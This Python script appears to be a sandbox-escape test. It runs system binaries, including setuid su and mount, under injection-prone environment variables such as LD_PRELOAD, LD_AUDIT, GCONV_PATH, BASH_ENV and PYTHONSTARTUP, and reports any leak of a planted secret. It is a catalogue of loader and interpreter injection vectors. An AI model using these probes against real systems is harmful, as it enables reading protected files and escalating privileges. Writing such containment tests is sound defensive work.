# have the loader, the C library and programs write and load files for it, by variables of their environment
import os
import subprocess
import sys

if "ATTACK_IN_SANDBOX" not in os.environ:
    sys.exit(1)

facts = dict(line.split(None, 1) for line in sys.stdin.read().splitlines())
secret, canary = facts["secret"], facts["canary"]
VARIABLES = [
    {"LD_DEBUG": "all", "LD_DEBUG_OUTPUT": f"{canary}/debug"},
    {"LD_PROFILE": "libc.so.6", "LD_PROFILE_OUTPUT": canary},
    {"LD_PRELOAD": secret},
    {"LD_AUDIT": secret},
    {"LD_LIBRARY_PATH": canary, "LD_SHOW_AUXV": "1"},
    {"GCONV_PATH": canary, "LANG": "x.SECRET"},
    {"LOCPATH": canary, "LC_ALL": "C"},
    {"MALLOC_TRACE": f"{canary}/trace"},
    {"GLIBC_TUNABLES": "glibc.malloc.check=3", "MALLOC_CHECK_": "3"},
    {"HOSTALIASES": secret, "RESOLV_HOST_CONF": secret, "LOCALDOMAIN": secret},
    {"TZ": f":{secret}", "TZDIR": canary},
    {"NLSPATH": secret, "TERMINFO": canary, "TERMCAP": secret},
    {"BASH_ENV": secret, "ENV": secret, "HISTFILE": f"{canary}/history"},
    {"PYTHONSTARTUP": secret, "PYTHONPATH": canary, "PYTHONPYCACHEPREFIX": canary},
    {"PERL5OPT": f"-I{canary}", "PERL5DB": "BEGIN{}", "RUBYOPT": f"-r{secret}"},
    {"GIT_DIR": canary, "EDITOR": "touch", "PAGER": f"touch {canary}/pager"},
]
COMMANDS = [
    ["/bin/sh", "-c", "date"],
    ["/usr/bin/env"],
    ["/bin/bash", "-c", "true"],
    ["/bin/su", "-c", "id"],
    ["/usr/bin/mount"],
    ["/usr/bin/perl", "-e", "1"],
    ["/usr/bin/python3", "-c", "pass"],
]
for variables in VARIABLES:
    for command in COMMANDS:
        try:
            done = subprocess.run(
                command, env=variables, stdin=subprocess.DEVNULL, capture_output=True, timeout=60
            )
        except (OSError, subprocess.SubprocessError):
            continue
        if b"secret-" in done.stdout + done.stderr:
            print("BREACH", variables, "told the answer to", command[0])
# What was written lies in scratch, if anywhere: the tests look at the host's folder.
print("DONE")
